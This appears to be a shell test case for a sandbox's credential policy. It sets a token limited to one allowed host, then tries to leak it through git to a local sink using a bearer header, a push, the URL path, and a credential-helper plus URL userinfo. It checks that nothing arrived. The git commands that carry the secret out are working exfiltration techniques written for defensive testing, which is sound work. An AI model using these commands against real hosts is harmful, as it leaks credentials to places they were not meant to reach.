# have git send the secret, or what stands for it, to another host: with a fetch, with a push, in the address
needs=review
setup() {
    sink tcp && pass PORT
    policy "credentials: [{name: SHOP_TOKEN, from: \"env: ATTACK_TOKEN\", hosts: [code.example.com]}]" "network: {allow: [code.example.com, \"127.0.0.1:$PORT\"]}"
    (cd "$W" && task policy approve --yes) >>"$D/task.log" 2>&1 || cannot "$(tail -n 1 "$D/task.log")"
    export SHOP_TOKEN=$MARK-environment
}
attempt() {
    say "it is $SHOP_TOKEN"
    unset no_proxy NO_PROXY
    export GIT_TERMINAL_PROMPT=0
    there=http://127.0.0.1:$PORT
    git -c http.extraHeader="Authorization: Bearer $SHOP_TOKEN" ls-remote "$there/a.git"
    git -c http.extraHeader="Authorization: Bearer $SHOP_TOKEN" push "$there/a.git" HEAD
    git ls-remote "$there/$SHOP_TOKEN/a.git"
    git -c credential.helper="!echo username=x; echo password=$SHOP_TOKEN;:" ls-remote "http://x:$SHOP_TOKEN@127.0.0.1:$PORT/a.git"
}
held() { tried '^it is .' && ! arrived "$MARK-environment" && ! arrived "$(sed -n 's/^it is //p' "$out" | head -n 1)" && ! arrived Authorization; }
